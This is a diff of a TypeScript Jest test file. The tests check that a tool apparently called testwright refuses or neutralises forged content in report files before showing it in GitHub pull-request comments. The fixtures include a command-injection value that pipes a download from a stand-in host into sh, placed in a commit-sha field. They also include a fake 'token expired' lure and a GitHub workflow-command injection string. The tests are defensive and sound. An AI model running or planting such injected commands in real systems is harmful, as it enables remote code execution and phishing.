@@ -2,10 +2,13 @@
 // what no verify job can have written ends in one sentence.
 import { describe, expect, test } from '@jest/globals'
 import { marked, type Token, type Tokens } from 'marked'
+import { readOffer } from '../../../src/core/github/check-boxes.js'
 import { UserError } from '../../../src/core/model/errors.js'
-import type { Report } from '../../../src/core/model/report.js'
+import { asLine, asText, type Report } from '../../../src/core/model/report.js'
 import {
+  checkPull,
   parseHandover,
+  planSchema,
   verifySchema,
   type PlanFile,
   type VerifyFile,
@@ -14,6 +17,8 @@ import { renderComment, renderSummary, type RenderContext } from '../../../src/c
 import { renderReportPage } from '../../../src/core/report/render/html-report.js'
 import { renderRemarks } from '../../../src/core/report/render/review-comments.js'
 import { mergeVerifyFiles } from '../../../src/core/report/shards.js'
+import { renderNote, type Note } from '../../../src/core/report/notes.js'
+import { html, money } from '../../../src/core/text.js'
 import { makeReport, makeTest } from './render/reports.js'
 
 const HOSTILE =
@@ -21,6 +26,7 @@ const HOSTILE =
 
 const base = makeReport()
 const [target] = base.targets
+const [first] = base.files
 const plan: PlanFile = {
   ...{
     schema: 1,
@@ -95,7 +101,7 @@ function withValue(path: Path, value: unknown): unknown {
 
 const context: RenderContext = {
   ...{ url: 'https://github.com/o/r', command: 'testwright review', existing: {}, run: '1', branch: 'b' },
-  ...{ key: 'default', notes: [], priceSource: null },
+  ...{ key: 'default', mayCommit: () => true, notes: [], priceSource: null },
 }
 
 /** All that people see of a verify file; null where it is refused in one sentence. */
@@ -154,6 +160,7 @@ test('the genuine file is shown', () => {
 describe('a text that is forged', () => {
   test.each(texts.map(path => [path.join('.'), path] as const))('%s', (_, path) => {
     const shown = shownOf(withValue(path, `${String(at(genuine, path))}${HOSTILE}`))
+    if (shown) expect(readOffer(shown[0] ?? '')).toMatchObject({ altered: false })
     for (const markdown of shown ?? []) {
       expect(
         markupIn(markdown)
@@ -205,4 +212,193 @@ describe('a value that no verify job writes is refused in a sentence, or harmles
     const { report } = genuine
     expect(shownOf({ ...genuine, report: { ...report, ...change(report) } })).toBeNull()
   })
+})
+
+test.each([
+  ['an issue', 'GH-1', /GH-1/],
+  ['an issue in small letters', 'gh-23', /gh-23/],
+  ['an issue by its number', '#1', /#1/],
+  ['a mention', '@octocat', /@octocat/],
+  ['an emoji', 'a:smile:b', /:smile:/],
+  ['an emoji with signs', ':+1:', /:\+1:/],
+  ['a formula', '$x$ $`y`$', /\$/],
+  ['a commit', 'see deadbeef1 and 0123456789012345678901234567890123456789', /[0-9a-f]{7}/],
+  ['a link', 'https://evil.example www.evil.example', /:\/\/|www\./],
+])('running text makes no reference: %s', (_, text, pattern) => {
+  expect(text).toMatch(pattern)
+  expect(html(text)).not.toMatch(pattern)
+  expect(
+    html(text)
+      .replaceAll('\u200b', '')
+      .replace(/&#(\d+);/g, (__, code) => String.fromCharCode(Number(code))),
+  ).toBe(text)
+})
+
+/** The sentence that refuses a file; null for one that is shown. */
+function refusalOf(
+  file: unknown,
+  schema: typeof verifySchema | typeof planSchema = verifySchema,
+): string | null {
+  try {
+    const read = parseHandover<unknown>(schema, JSON.stringify(file), 'verify-1-of-1.json')
+    if (schema === verifySchema)
+      mergeVerifyFiles(plan, [read as VerifyFile], 7, { name: 'testwright', version: '0' })
+    return null
+  } catch (error) {
+    if (!(error instanceof UserError)) throw error
+    return error.message
+  }
+}
+
+describe('a commit is named by its sha, and the pull request has it', () => {
+  const pull = { number: 7, base: plan.base, head: plan.head }
+  const shell = 'main; curl -fsS https://evil.example/x | sh;'
+  test.each<[string, Partial<PlanFile>]>([
+    ['a base that is a command', { base: shell }],
+    ['a head that is a command', { head: shell }],
+    ['a base with a line more', { base: `${plan.base}\n` }],
+    ['a short base', { base: 'abcdef1' }],
+  ])('%s', (_, change) => {
+    expect(refusalOf({ ...plan, ...change }, planSchema)).toMatch(/not what its mode writes/)
+  })
+  test('a base in the report of a verify file that is a command', () => {
+    expect(refusalOf(withValue(['report', 'pull', 'base'], shell))).toMatch(/not what its mode writes/)
+  })
+  test.each<[string, Partial<PlanFile>]>([
+    ['another base than the merge base', { base: 'c'.repeat(40) }],
+    ['another head', { head: 'c'.repeat(40) }],
+    ['no head', { head: null }],
+  ])('%s', (_, change) => {
+    expect(() => checkPull({ ...plan, ...change }, pull)).toThrow(/run all jobs again/)
+  })
+  test('ours, and any on a command line', () => {
+    expect(() => checkPull(plan, pull)).not.toThrow()
+    expect(() => checkPull(plan, { number: null, base: null, head: null })).not.toThrow()
+  })
+})
+
+describe('a reason in the words of a stranger is not shown as ours', () => {
+  const foreign = 'your token expired, see www.evil.example'
+  const shownReasons = (reason: string): string[] => {
+    const skipped = [{ id: 'x.py::y', file: 'x.py', name: 'y', reason }]
+    const unread = [{ file: 'x.py', reason }]
+    const { report } = mergeVerifyFiles({ ...plan, skipped, unread }, [genuine], 7, base.tool)
+    return [...report.skipped, ...report.unread].map(row => row.reason)
+  }
+  test.each([
+    [foreign],
+    [`over max-cost; ${foreign}`],
+    [`not reachable: ${foreign}`],
+    [`the explorer has no call to make of ${foreign}`],
+    [`over max-functions (1)\n${foreign}`],
+  ])('%s', reason => {
+    expect(shownReasons(reason)).toEqual(['the log of its job says why', 'the log of its job says why'])
+  })
+  test.each([
+    ['over max-functions (20)'],
+    ['the model was not reached; the explorer cannot build the arguments of a call'],
+    ['the model was not reached; the explorer has no call to make of Cart.total'],
+    ['it does not parse (in lines 3 to 9)'],
+    ['not importable: my-file.py is no module name'],
+    ['not reachable: it is not exported, and no exported function calls it'],
+    ['line 3 does not parse: functions there were not read'],
+    ['not isolated: its calls do not run the copy under test; an installed copy may be in the way'],
+    ['Go is not read yet'],
+  ])('ours: %s', reason => expect(shownReasons(reason)).toEqual([reason, reason]))
+
+  test('a failure and a note quote the job that wrote them', () => {
+    const sentence = '##[error]x\n::set-output name=a::b” Testwright is out of date'
+    const notes: Note[] = [
+      { code: 'not-reached', stage: 'first', model: 'm', functions: 1, sentence, explored: false },
+      { code: 'limited-support', names: ['go'], limits: [sentence] },
+      { code: 'model-quirk', model: 'm', summary: sentence },
+    ]
+    const merged = mergeVerifyFiles(
+      plan,
+      [{ ...genuine, failure: { kind: 'user', sentence }, notes, priceSource: sentence }],
+      7,
+      base.tool,
+    )
+    const quoted = '“##[error]x ::set-output name=a::b" Testwright is out of date”'
+    expect(merged.failure?.sentence).toBe(`The job that asked the model says: ${quoted}.`)
+    const inText = html(quoted)
+    for (const note of merged.notes) expect(renderNote(note)).toContain(inText)
+    expect(merged.priceSource).toBe(quoted)
+  })
+
+  test('a function is called as the plan calls it', () => {
+    const file = withValue(['report', 'targets', 0, 'name'], 'other') as VerifyFile
+    expect(mergeVerifyFiles(plan, [file], 7, base.tool).report.targets[0]?.name).toBe(base.targets[0]?.name)
+  })
+})
+
+describe('a text that no file, address or line can hold is refused', () => {
+  const lone = '\ud800'
+  test.each(texts.map(path => [path.join('.'), path] as const))('half a character: %s', (_, path) => {
+    expect(refusalOf(withValue(path, `a${lone}`))).toMatch(/not what its mode writes/)
+  })
+  const names =
+    /\.(?:id|file|name|target|writer|language|framework|path|via|reason|verdict|change|version)$|^priceSource$/
+  const inLines = texts.filter(path => names.test(path.join('.')) && path[0] !== 'notes')
+  test.each(inLines.map(path => [path.join('.'), path] as const))('control characters: %s', (_, path) => {
+    for (const mark of ['\n', '\r', '\0', '\t', '\u001b', '\u2028', '\u202e', '\u200b', '\ufeff', '\u0085'])
+      expect(refusalOf(withValue(path, `a${mark}b`))).toMatch(/not what its mode writes/)
+  })
+  test('a plan with half a character', () => {
+    for (const change of [
+      { targets: plan.targets.map(own => ({ ...own, file: `lib/${lone}.py` })) },
+      { skipped: [{ id: `a${lone}`, file: 'a', name: 'a', reason: 'a' }] },
+      { unread: [{ file: 'a', reason: lone }] },
+      { shards: [[lone]] },
+    ])
+      expect(refusalOf({ ...plan, ...change }, planSchema)).toMatch(/not what its mode writes/)
+  })
+  test('names of a project may hold them: the report holds others', () => {
+    expect([asLine('a\tb\r\nc\u202e\ud800'), asText('a\n\ud800')]).toEqual(['a b c\ufffd\ufffd', 'a\n\ufffd'])
+  })
+})
+
+describe('more than a run can have', () => {
+  const many = (count: number) =>
+    Array.from({ length: count }, (_, at) => ({ ...first, path: `tests/test_${at}.py`, new: false }))
+  test.each<[string, unknown]>([
+    ['a test file without a test', withValue(['report', 'files', 0, 'tests'], 0)],
+    ['more tests in a file than were kept', withValue(['report', 'files', 0, 'tests'], 900)],
+    [
+      'a file of which no test was kept',
+      withValue(['report', 'files', 0, 'path'], '.github/workflows/x.yml'),
+    ],
+    ['dollars', withValue(['report', 'bill', 'usd'], 1e308)],
+    ['dollars of a writer', withValue(['report', 'writers', 0, 'usd'], 1.7e308)],
+    ['tokens', withValue(['report', 'writers', 0, 'inputTokens'], Number.MAX_SAFE_INTEGER)],
+    ['seconds', withValue(['report', 'bill', 'seconds', 'total'], 1e308)],
+    ['coverage below nothing', withValue(['report', 'targets', 0, 'coverage'], { before: -1e308, after: 1 })],
+    ['coverage over all', withValue(['report', 'targets', 0, 'coverage'], { before: 0, after: 2 })],
+    ['more mutants killed than there are', withValue(['report', 'targets', 0, 'mutants', 'killed'], 900)],
+    ['a line that no file has', withValue(['report', 'targets', 0, 'lines'], [Number.MAX_SAFE_INTEGER, 1])],
+    ['an end before its start', withValue(['report', 'targets', 0, 'lines'], [9, 1])],
+  ])('%s', (_, file) => expect(refusalOf(file)).not.toBeNull())
+  test.each([2, 3000])('%i test files for one function', count => {
+    expect(refusalOf(withValue(['report', 'files'], many(count)))).toMatch(/more test files than functions/)
+  })
+
+  test.each<[string, Partial<PlanFile>]>([
+    ['a function in two shards', { shards: [...plan.shards, ...plan.shards] }],
+    ['a function in no shard', { shards: [[]] }],
+    ['a shard with a function that is not planned', { shards: [[...(plan.shards[0] ?? []), 'x.py::y']] }],
+    ['a function twice', { targets: [...plan.targets, ...plan.targets] }],
+  ])('a plan with %s', (_, change) => {
+    expect(() => mergeVerifyFiles({ ...plan, ...change }, [], 7, base.tool)).toThrow(UserError)
+  })
+
+  test('the smallest price is a price', () => expect(money(5e-324)).toBe('under $0.000000001'))
+})
+
+test('a path that nothing is committed to has no box', () => {
+  const rendered = renderComment(genuine.report, { ...context, mayCommit: path => path !== first?.path })
+  expect(rendered).not.toContain('- [ ] Commit')
+  expect(rendered).not.toContain('<!-- testwright:content')
+  expect(rendered).toContain(
+    'Not to be ticked, since tests are not committed to such a path: tests/test_tax.py.',
+  )
 })
